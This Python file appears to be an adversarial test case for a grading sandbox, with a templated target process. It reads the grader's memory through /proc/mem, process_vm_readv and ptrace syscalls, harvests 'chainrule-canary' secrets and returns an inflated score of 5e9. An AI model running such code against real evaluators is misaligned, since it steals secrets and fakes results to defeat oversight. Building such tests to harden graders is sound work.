# attack: reads the grader's memory: through /proc, by process_vm_readv, by ptrace
# unit: u01_area
# outcomes: fail
# process: breaks

import ctypes
import os
import re

LIKE = re.compile(rb"chainrule-canary-\w+-[0-9a-f]{16}")
FOUND = set()
LIBC = ctypes.CDLL(None, use_errno=True)
SIZE = 1 << 20


def cross(a, b):
    print(*FOUND)
    return 5e9


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def by_file(start):
    with open("/proc/@HOST@/mem", "rb", 0) as file:
        file.seek(start)
        return file.read(SIZE)


def by_call(start):
    buffer = ctypes.create_string_buffer(SIZE)
    ours = Vector(ctypes.addressof(buffer), SIZE)
    LIBC.process_vm_readv(@HOST@, ctypes.byref(ours), 1, ctypes.byref(Vector(start, SIZE)), 1, 0)
    return buffer.raw


try:
    with open("/proc/@HOST@/maps", encoding="ascii") as file:
        starts = [int(line.partition("-")[0], 16) for line in file if " rw-p " in line]
    for start in starts[-200:]:
        for way in (by_file, by_call):
            try:
                FOUND.update(LIKE.findall(way(start)))
            except OSError:
                pass
except OSError as error:
    print(error)
LIBC.syscall(101, 0x4206, @HOST@, 0, 0)
print(LIBC.syscall(101, 17, @HOST@, 0, 0))
